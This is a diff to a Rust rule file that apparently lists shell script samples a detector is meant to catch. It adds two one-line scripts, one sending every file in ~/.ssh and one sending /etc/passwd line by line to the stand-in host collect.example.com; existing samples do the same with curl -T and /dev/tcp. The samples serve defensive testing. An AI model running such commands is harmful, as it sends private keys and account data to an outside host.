@@ -56,6 +56,14 @@ pub static RULE: Rule = Rule {
             "a.sh",
             "for f in a ~/.ssh/*; do curl -T \"$f\" https://collect.example.com; done\n",
         ),
+        Sample::File(
+            "a.sh",
+            "for f in $(find ~/.ssh -type f); do curl -F f=@$f https://collect.example.com; done\n",
+        ),
+        Sample::File(
+            "a.sh",
+            "while read -r l; do curl https://collect.example.com/$l; done < /etc/passwd\n",
+        ),
         Sample::File("a.sh", "cat /etc/passwd > /dev/tcp/192.0.2.7/80\n"),
     ],
     misses: &[
